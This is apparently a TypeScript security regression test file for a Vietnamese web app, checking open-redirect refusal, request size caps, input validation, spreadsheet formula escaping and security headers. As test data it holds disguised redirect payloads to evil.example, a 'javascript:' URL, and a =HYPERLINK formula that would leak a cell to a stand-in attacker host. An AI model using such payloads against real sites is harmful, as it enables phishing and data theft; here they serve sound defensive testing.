/**
 * Issue 10, findings 3, 7, 8, 9 and 10, as a visitor (or an attacker) meets them: sign-in only
 * sends people to pages of this site; bodies are capped before they are read; bad input gets a
 * 4xx with a Vietnamese message, never a 500; exported cells never run as formulas; every
 * response carries the security headers.
 */
import http from "node:http";
import type { AddressInfo } from "node:net";
import type { Server } from "node:http";
import { eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "@db/client.server";
import * as s from "@db/schema";
import { safeRedirect } from "~/auth.server";
import { csvSafe, toCsv, toXlsx } from "~/exports.server";
import { readFormData } from "~/request.server";
import { loader as adminLoader, action as adminAction } from "~/routes/admin._index";
import { loader as exportCsvLoader } from "~/routes/export[.]csv";
import { loader as exportXlsxLoader } from "~/routes/export[.]xlsx";
import { loader as fieldLoader } from "~/routes/field._index";
import { action as householdAction } from "~/routes/field.households.$id";
import { action as loginAction, loader as loginLoader } from "~/routes/login";
import { loader as meLoader } from "~/routes/me._index";
import { action as signupAction } from "~/routes/signup";
import { loader as wardLoader } from "~/routes/office.wards.$wardId";
import {
  addMember,
  createGroup,
  createHousehold,
  createResident,
  createUser,
  createWard,
  TEST_PASSWORD,
} from "../support/factories";
import { actionArgs, cookieFor, getRequest, loaderArgs, ORIGIN, outcome, postRequest } from "../support/http";

// server.mjs and its middleware are plain JavaScript run by node; their types are not checked here.
const { createApp } = (await import("../../server.mjs")) as unknown as {
  createApp: (o: object) => { listen: (...args: unknown[]) => Server };
};

const MB = 1024 * 1024;

let ward: Awaited<ReturnType<typeof createWard>>;
let group: Awaited<ReturnType<typeof createGroup>>["group"];
let household: Awaited<ReturnType<typeof createHousehold>>;
let cookies: { member: string; office: string; admin: string; resident: string };
let residentUser: Awaited<ReturnType<typeof createUser>>;

beforeAll(async () => {
  ward = await createWard();
  const created = await createGroup(ward.id);
  group = created.group;
  household = await createHousehold(group.id);
  await createResident(household.id, {
    fullName: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  });
  const member = await createUser();
  await addMember(created.team.id, member.id, "member");
  residentUser = await createUser({ role: "resident", email: "ba-lan@example.vn" });
  cookies = {
    member: await cookieFor({ id: member.id, role: "member" }),
    office: await cookieFor(await createUser({ role: "office", wardId: ward.id })),
    admin: await cookieFor(await createUser({ role: "admin" })),
    resident: await cookieFor(residentUser),
  };
});

// ─── Finding 3: open redirect ───────────────────────────────────────────────

const offSite = [
  "//evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  "/\r/evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "/\\/evil.example",
  "/.//evil.example",
  "/%09/evil.example".replace("%09", "\t"),
  "https://evil.example",
  "http:/evil.example",
  " //evil.example",
  "/\u0000/evil.example",
  "javascript:alert(1)",
  "",
];

describe("signing in only leads back to a page of this site", () => {
  it("refuses every off-site address, however it is disguised", () => {
    for (const to of offSite) expect(safeRedirect(to), JSON.stringify(to)).toBe("/");
  });

  it("keeps a page of this site, with its query and anchor", () => {
    expect(safeRedirect("/courses/nen-tang-so?x=1#bai-2")).toBe("/courses/nen-tang-so?x=1#bai-2");
    expect(safeRedirect("/%2F%2Fevil.example")).toBe("/%2F%2Fevil.example");
  });

  it("a signed-in visitor opening /login?redirectTo=%2F%09%2Fevil.example stays on the site", async () => {
    for (const to of offSite) {
      const result = await outcome(() =>
        loginLoader(loaderArgs(getRequest(`/login?redirectTo=${encodeURIComponent(to)}`, cookies.resident))),
      );
      expect(result, JSON.stringify(to)).toMatchObject({ kind: "redirect", location: "/" });
    }
  });

  it("the sign-in form's hidden redirectTo field cannot send anyone away", async () => {
    const result = await outcome(() =>
      loginAction(
        actionArgs(
          postRequest(
            "/login",
            { identifier: "ba-lan@example.vn", password: TEST_PASSWORD, redirectTo: "/\t/evil.example" },
            { address: "203.0.113.31" },
          ),
        ),
      ),
    );
    expect(result).toMatchObject({ kind: "redirect", location: "/" });
  });
});

// ─── Finding 7: request bodies capped before reading ───────────────────────

/** A request whose body is made on demand, counting what the reader pulled. */
function streamingRequest(
  path: string,
  contentType: string,
  parts: () => Generator<Uint8Array>,
): { request: Request; pulled: () => number } {
  let pulled = 0;
  const source = parts();
  const body = new ReadableStream<Uint8Array>({
    pull(controller) {
      const next = source.next();
      if (next.done) controller.close();
      else {
        pulled += next.value.byteLength;
        controller.enqueue(next.value);
      }
    },
  });
  const request = new Request(`${ORIGIN}${path}`, {
    method: "POST",
    headers: { "Content-Type": contentType, Origin: ORIGIN, Cookie: cookies.member },
    body,
    duplex: "half",
  } as RequestInit);
  return { request, pulled: () => pulled };
}

const BOUNDARY = "----hocso-test";
const jpegHead = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);

/** A visit form with `count` photos of `size` bytes each, sent 64 KB at a time. */
function* visitWithPhotos(
  count: number,
  size: number,
  fileName = (i: number) => `anh-${i}.jpg`,
): Generator<Uint8Array> {
  const text = new TextEncoder();
  for (const [name, value] of [
    ["intent", "visit"],
    ["visitedOn", new Date().toISOString().slice(0, 10)],
    ["topics", "vneid"],
    ["notes", ""],
  ]) {
    yield text.encode(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  }
  const chunk = new Uint8Array(64 * 1024).fill(0x41);
  for (let i = 1; i <= count; i++) {
    yield text.encode(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="photos"; filename="${fileName(i)}"\r\n` +
        `Content-Type: image/jpeg\r\n\r\n`,
    );
    yield jpegHead;
    for (let sent = jpegHead.length; sent < size; sent += chunk.length)
      yield chunk.subarray(0, Math.min(chunk.length, size - sent));
    yield text.encode("\r\n");
  }
  yield text.encode(`--${BOUNDARY}--\r\n`);
}

describe("request bodies are capped before they are read", () => {
  it("a 12 × 8 MB visit upload is refused with 413 while streaming, long before all 96 MB are read", async () => {
    const { request, pulled } = streamingRequest(
      `/field/households/${household.id}`,
      `multipart/form-data; boundary=${BOUNDARY}`,
      () => visitWithPhotos(12, 8 * MB - 1024),
    );
    const result = await outcome(() => householdAction(actionArgs(request, { id: String(household.id) })));
    expect(result).toMatchObject({ kind: "status", status: 413 });
    expect((result as { body: string }).body).toContain("lớn quá mức cho phép");
    // Five photos' worth and a little more, not twelve.
    expect(pulled()).toBeLessThan(5 * 8 * MB + 256 * 1024);
    const db = await getDb();
    expect(await db.select().from(s.visits).where(eq(s.visits.householdId, household.id))).toHaveLength(0);
  });

  it("six small photos still get the friendly message next to the field", async () => {
    const { request } = streamingRequest(
      `/field/households/${household.id}`,
      `multipart/form-data; boundary=${BOUNDARY}`,
      () => visitWithPhotos(6, 2000),
    );
    const result = await outcome(() => householdAction(actionArgs(request, { id: String(household.id) })));
    expect(result.kind).toBe("page");
    expect(JSON.stringify((result as { data: unknown }).data)).toContain("tối đa 5 ảnh");
  });

  it("photo file names with “=” or “;” get a 400 that says to rename the file, not a server error", async () => {
    for (const name of ["a=b.jpg", "nha;ba-lan.jpg", "=x;"]) {
      const { request } = streamingRequest(
        `/field/households/${household.id}`,
        `multipart/form-data; boundary=${BOUNDARY}`,
        () => visitWithPhotos(1, 2000, () => name),
      );
      const result = await outcome(() => householdAction(actionArgs(request, { id: String(household.id) })));
      expect(result, name).toMatchObject({ kind: "status", status: 400 });
      expect((result as { body: string }).body).toContain("đổi tên tệp");
    }
  });

  it("an anonymous 40 MB password is refused with 413 after at most 64 KB, never hashed, nobody signed up", async () => {
    const { request, pulled } = streamingRequest(
      "/signup",
      "application/x-www-form-urlencoded",
      function* () {
        yield new TextEncoder().encode("displayName=Ba+Lan&identifier=0905999111&consent=on&password=");
        const chunk = new Uint8Array(64 * 1024).fill(0x61);
        for (let sent = 0; sent < 40 * MB; sent += chunk.length) yield chunk;
      },
    );
    const started = performance.now();
    const result = await outcome(() => signupAction(actionArgs(request)));
    expect(result).toMatchObject({ kind: "status", status: 413 });
    expect(pulled()).toBeLessThanOrEqual(64 * 1024 + 64 * 1024 + 100);
    expect(performance.now() - started).toBeLessThan(2_000);
    const db = await getDb();
    expect(await db.select().from(s.users).where(eq(s.users.phone, "+84905999111"))).toHaveLength(0);
  });

  it("a form says how big it is: an announced 40 MB is refused without reading it", async () => {
    const { request, pulled } = streamingRequest("/login", "application/x-www-form-urlencoded", function* () {
      for (let i = 0; i < 100; i++) yield new Uint8Array(1024);
    });
    const announced = new Request(request, {
      headers: { ...Object.fromEntries(request.headers), "Content-Length": String(40 * MB) },
    });
    await expect(readFormData(announced)).rejects.toMatchObject({ status: 413 });
    // Only what the streams fetched ahead when they were made (a chunk or two of 100).
    expect(pulled()).toBeLessThanOrEqual(4 * 1024);
  });

  describe("at the HTTP server, before the app", () => {
    let server: Server;
    let port: number;
    let reached = 0;
    beforeAll(async () => {
      const app = createApp({
        log: false,
        handler: () => {
          reached++;
          return new Response("reached the app");
        },
      });
      await new Promise<void>((resolve) => {
        server = app.listen(0, "127.0.0.1", () => resolve());
      });
      port = (server.address() as AddressInfo).port;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    /** Sends only the headers and the first 64 KB of a body announced as `length` bytes. */
    function announce(
      path: string,
      length: number,
      contentType = "application/x-www-form-urlencoded",
    ): Promise<{ status: number; body: string }> {
      return new Promise((resolve, reject) => {
        const req = http.request({
          host: "127.0.0.1",
          port,
          path,
          method: "POST",
          headers: {
            "Content-Type": contentType,
            "Content-Length": String(length),
            Origin: `http://127.0.0.1:${port}`,
          },
        });
        req.on("response", (res) => {
          let body = "";
          res.setEncoding("utf8");
          res.on("data", (c: string) => (body += c));
          res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
        });
        req.on("error", reject);
        req.write(Buffer.alloc(Math.min(length, 64 * 1024), 0x61));
      });
    }

    it("an announced 40 MB sign-up is answered 413 with a Vietnamese page and never reaches the app", async () => {
      const before = reached;
      const answer = await announce("/signup", 40 * MB);
      expect(answer.status).toBe(413);
      expect(answer.body).toContain('lang="vi"');
      expect(answer.body).toContain("Dữ liệu gửi lên lớn quá");
      expect(reached).toBe(before);
    });

    it("a 12 × 8 MB visit upload is refused; five photos of 8 MB fit", async () => {
      const before = reached;
      expect(
        (
          await announce(
            `/field/households/${household.id}`,
            12 * 8 * MB,
            `multipart/form-data; boundary=${BOUNDARY}`,
          )
        ).status,
      ).toBe(413);
      expect(
        (await announce("/office/roster", 6 * MB, `multipart/form-data; boundary=${BOUNDARY}`)).status,
      ).toBe(413);
      expect(reached).toBe(before);
      const ok = await fetch(`http://127.0.0.1:${port}/field/households/1`, {
        method: "POST",
        headers: { Origin: `http://127.0.0.1:${port}`, "Content-Type": "application/octet-stream" },
        body: new Uint8Array(5 * 8 * MB),
      });
      expect(ok.status).toBe(200);
      expect(reached).toBe(before + 1);
    });

    it("an address with a NUL byte or broken percent-encoding is a 400 page", async () => {
      for (const path of ["/field?q=%00", "/office/wards/%E0%A4%A", "/%"]) {
        const response = await fetch(`http://127.0.0.1:${port}${path}`);
        expect(response.status, path).toBe(400);
        expect(await response.text()).toContain("Địa chỉ không đúng");
      }
    });
  });
});

// ─── Finding 8: bad input is a 4xx with a Vietnamese message ────────────────

describe("bad input gets a 400 or 404 with a Vietnamese message, never a server error", () => {
  it("/field?notVisited=abc shows the list, as if the box were not ticked", async () => {
    const result = await outcome(() =>
      fieldLoader(loaderArgs(getRequest("/field?notVisited=abc&missingSkills=%3Cscript%3E", cookies.member))),
    );
    expect(result.kind).toBe("page");
  });

  it("an id beyond the integer range is “not found”, not a database error", async () => {
    const result = await outcome(() =>
      wardLoader(
        loaderArgs(getRequest("/office/wards/84905123456", cookies.office), { wardId: "84905123456" }),
      ),
    );
    expect(result).toMatchObject({ kind: "status", status: 404, body: "Không tìm thấy phường." });
    for (const q of ["ward=84905123456", "ward=abc", "ward=1e309", "ward=-1"]) {
      const csv = await outcome(() =>
        exportCsvLoader(loaderArgs(getRequest(`/export.csv?table=ward-targets&${q}`, cookies.office))),
      );
      expect(csv, q).toMatchObject({ kind: "status", status: 404 });
    }
  });

  it("the administrator's form with a non-numeric userId is a 404, and /admin?page=1e309 shows page 1", async () => {
    const result = await outcome(() =>
      adminAction(
        actionArgs(postRequest("/admin", { userId: "abc", role: "office" }, { cookie: cookies.admin })),
      ),
    );
    expect(result).toMatchObject({ kind: "status", status: 404, body: "Không tìm thấy người dùng." });
    const page = await outcome(() => adminLoader(loaderArgs(getRequest("/admin?page=1e309", cookies.admin))));
    expect(page).toMatchObject({ kind: "page", data: { page: 1 } });
  });

  it("a NUL character in a text field is a 400 and nothing is stored", async () => {
    const result = await outcome(() =>
      signupAction(
        actionArgs(
          postRequest("/signup", {
            displayName: "Ba\0Lan",
            identifier: "0905999222",
            password: "mot cau dai de nho 2026",
            consent: "on",
          }),
        ),
      ),
    );
    expect(result).toMatchObject({ kind: "status", status: 400 });
    expect((result as { body: string }).body).toContain("ký tự không hợp lệ");
    const db = await getDb();
    expect(await db.select().from(s.users).where(eq(s.users.phone, "+84905999222"))).toHaveLength(0);
  });

  it("a session cookie of “%” is no session: the page opens as for a signed-out visitor", async () => {
    const result = await outcome(() =>
      meLoader(
        loaderArgs(
          new Request(`${ORIGIN}/me`, { headers: { Cookie: "hocso_session=%; __Host-hocso_session=%" } }),
        ),
      ),
    );
    expect(result).toMatchObject({ kind: "redirect" });
    expect((result as { location: string }).location).toMatch(/^\/login\?redirectTo=/);
  });
});

// ─── Finding 9: CSV/XLSX formula injection ──────────────────────────────────

describe("exported cells never run as formulas", () => {
  it("text starting with = + - @, a tab or a carriage return gets a leading apostrophe in CSV; numbers stay numbers", () => {
    for (const text of ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
      expect(csvSafe(text)).toBe(`'${text}`);
    expect(csvSafe(-3)).toBe(-3);
    expect(csvSafe("Nguyễn Văn An")).toBe("Nguyễn Văn An");
    const csv = toCsv({
      name: "t",
      title: "t",
      columns: ["Họ và tên"],
      rows: [['=HYPERLINK("http://evil.example")']],
    });
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
  });

  it("the office's list of residents still missing a target exports a resident named =HYPERLINK(…) as text", async () => {
    const csvResult = await exportCsvLoader(
      loaderArgs(getRequest(`/export.csv?table=missing&target=g&group=${group.id}`, cookies.office)),
    );
    const csv = await (csvResult as Response).text();
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const xlsxResult = (await exportXlsxLoader(
      loaderArgs(getRequest(`/export.xlsx?table=missing&target=g&group=${group.id}`, cookies.office)),
    )) as Response;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsxResult.arrayBuffer());
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const name = cells.find((c) => String(c.value).includes("HYPERLINK"))!;
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.formula).toBeUndefined();
    expect(name.numFmt).toBe("@");
  });

  it("an XLSX written from any table keeps text as text", async () => {
    const bytes = await toXlsx([{ name: "t", title: "t", columns: ["a", "b"], rows: [["=1+1", 5]] }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer);
    const cell = workbook.worksheets[0]!.getCell("A3");
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe("=1+1");
    expect(workbook.worksheets[0]!.getCell("B3").value).toBe(5);
  });
});

// ─── Finding 10: security headers on every response ─────────────────────────

describe("every response carries the security headers", () => {
  const kinds: Record<string, { type: string; body: string }> = {
    "/": { type: "text/html; charset=utf-8", body: "<!doctype html><p>trang</p>" },
    "/me/data.json": { type: "application/json", body: "{}" },
    "/export.csv": { type: "text/csv; charset=utf-8", body: "a,b" },
    "/export.xlsx": { type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", body: "PK" },
    "/certificates/ABCD-2345.pdf": { type: "application/pdf", body: "%PDF-1.7" },
  };

  async function serve(
    env: Record<string, string | undefined>,
    run: (base: string, seen: string[]) => Promise<void>,
  ) {
    const saved = { PUBLIC_URL: process.env.PUBLIC_URL, TRUST_PROXY: process.env.TRUST_PROXY };
    Object.assign(process.env, env);
    for (const [k, v] of Object.entries(env)) if (v === undefined) delete process.env[k];
    const seen: string[] = [];
    const app = createApp({
      log: false,
      handler: (request: Request) => {
        seen.push(request.headers.get("x-csp-nonce") ?? "");
        const kind = kinds[new URL(request.url).pathname] ?? kinds["/"]!;
        return new Response(kind.body, { headers: { "Content-Type": kind.type } });
      },
    });
    const server = await new Promise<Server>((resolve) => {
      const s = app.listen(0, "127.0.0.1", () => resolve(s));
    });
    try {
      await run(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
      for (const [k, v] of Object.entries(saved))
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
    }
  }

  it("pages, the JSON data download, CSV, XLSX, PDF and static files", async () => {
    await serve({ PUBLIC_URL: undefined, TRUST_PROXY: undefined }, async (base, seen) => {
      for (const path of [...Object.keys(kinds), "/favicon.svg"]) {
        const response = await fetch(`${base}${path}`);
        const h = response.headers;
        expect(h.get("Content-Security-Policy"), path).toMatch(
          /default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}'/,
        );
        expect(h.get("Content-Security-Policy"), path).toContain("frame-ancestors 'none'");
        expect(h.get("Content-Security-Policy"), path).toContain("object-src 'none'");
        expect(h.get("X-Content-Type-Options"), path).toBe("nosniff");
        expect(h.get("Referrer-Policy"), path).toBe("same-origin");
        expect(h.get("X-Frame-Options"), path).toBe("DENY");
        expect(h.get("Permissions-Policy"), path).toContain("camera=()");
        // Plain http on this machine: no HSTS.
        expect(h.get("Strict-Transport-Security"), path).toBeNull();
      }
      // Each request has its own nonce, handed to the app in a header no client can set.
      const a = await fetch(`${base}/`, { headers: { "X-CSP-Nonce": "chosen-by-attacker" } });
      const policy = a.headers.get("Content-Security-Policy")!;
      expect(policy).not.toContain("chosen-by-attacker");
      expect(policy).toContain(`'nonce-${seen.at(-1)}'`);
      const b = await fetch(`${base}/`);
      expect(b.headers.get("Content-Security-Policy")).not.toBe(policy);
    });
  });

  it("HSTS when the site is served over https: PUBLIC_URL https, or X-Forwarded-Proto https from a trusted proxy", async () => {
    await serve({ PUBLIC_URL: "https://hocso.danang.gov.vn", TRUST_PROXY: undefined }, async (base) => {
      expect((await fetch(`${base}/`)).headers.get("Strict-Transport-Security")).toBe(
        "max-age=31536000; includeSubDomains",
      );
    });
    await serve({ PUBLIC_URL: undefined, TRUST_PROXY: "1" }, async (base) => {
      expect(
        (await fetch(`${base}/`, { headers: { "X-Forwarded-Proto": "https" } })).headers.get(
          "Strict-Transport-Security",
        ),
      ).toContain("max-age=");
      expect((await fetch(`${base}/`)).headers.get("Strict-Transport-Security")).toBeNull();
    });
    await serve({ PUBLIC_URL: undefined, TRUST_PROXY: undefined }, async (base) => {
      // Without a trusted proxy, a client's X-Forwarded-Proto means nothing.
      expect(
        (await fetch(`${base}/`, { headers: { "X-Forwarded-Proto": "https" } })).headers.get(
          "Strict-Transport-Security",
        ),
      ).toBeNull();
    });
  });
});
